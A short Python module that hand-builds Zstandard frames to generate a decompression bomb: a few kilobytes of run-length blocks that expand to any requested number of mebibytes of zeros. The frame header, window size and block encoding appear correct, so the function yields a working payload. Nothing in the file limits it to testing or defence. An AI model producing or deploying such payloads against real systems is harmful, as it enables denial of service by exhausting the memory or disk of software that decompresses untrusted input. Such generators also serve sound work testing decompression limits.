"""zstd frames without a library: blocks of one repeated byte, which is all a bomb needs."""

import struct


def bomb(megabytes):
    """A frame of so many MiB of zeros, eight 128 KiB run-length blocks to the MiB, four bytes each."""
    magic, descriptor = struct.pack("<I", 0xFD2FB528), bytes([0x00, 0x38])  # a window of 128 KiB
    blocks = megabytes * 8
    run = lambda last: struct.pack("<I", (128 << 10) << 3 | 1 << 1 | last)[:3] + b"\0"
    return magic + descriptor + run(0) * (blocks - 1) + run(1)
